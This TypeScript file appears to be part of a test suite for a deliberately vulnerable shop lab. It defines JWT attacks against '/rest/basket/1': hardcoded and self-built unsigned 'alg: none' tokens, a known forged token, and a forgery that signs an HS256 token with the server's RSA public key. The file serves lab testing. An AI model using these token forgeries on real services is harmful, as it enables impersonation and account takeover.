import type { Attack, Tools } from '#lab'
import { base64url, publicKey, signedWith } from './steps.ts'

/** The first two parts of a token, which need no key. */
function unsigned(alg: string, email: string): string {
  const encode = (value: object): string => base64url(new TextEncoder().encode(JSON.stringify(value)))
  return `${encode({ typ: 'JWT', alg })}.${encode({ data: { email }, iat: 1508639612, exp: 9999999999 })}`
}

/** Sends a token to the shop and checks that it is not called invalid. */
async function present({ http, expect }: Tools, path: string, token: string): Promise<void> {
  const answer = await http.get(path, { token, headers: { accept: 'application/json' } })
  expect(!answer.text.includes('invalid token'), 'the shop calls the token invalid')
}

const UNSIGNED =
  'eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJkYXRhIjp7ImVtYWlsIjoiand0bjNkQGp1aWNlLXNoLm9wIn0sImlhdCI6MTUwODYzOTYxMiwiZXhwIjo5OTk5OTk5OTk5fQ.'
const FORGED =
  'eyJ0eXAiOiJKV1QiLCJhbGciOiJIUzI1NiJ9.eyJkYXRhIjp7ImVtYWlsIjoicnNhX2xvcmRAanVpY2Utc2gub3AifSwiaWF0IjoxNTgzMDM3NzExfQ.gShXDT5TrE5736mpIbfVDEcQbLfteJaQUG7Z0PH8Xc8'

export const attacks: Attack[] = [
  {
    challenge: 'jwtUnsignedChallenge',
    name: 'the unsigned token that everybody knows',
    run: (tools) => present(tools, '/rest/basket/1', UNSIGNED),
  },
  {
    challenge: 'jwtUnsignedChallenge',
    name: 'a self-made token without a signature',
    run: (tools) =>
      present(tools, '/rest/basket/1', `${unsigned('none', `jwtn3d@${tools.settings.domain}`)}.`),
  },
  {
    challenge: 'jwtForgedChallenge',
    name: 'the forged token that everybody knows',
    run: (tools) => present(tools, '/rest/basket/1', FORGED),
  },
  {
    challenge: 'jwtForgedChallenge',
    name: 'a self-made token signed with the public key',
    run: async (tools) => {
      const text = unsigned('HS256', `rsa_lord@${tools.settings.domain}`)
      await present(tools, '/rest/basket/1', await signedWith(await publicKey(tools), text))
    },
  },
]
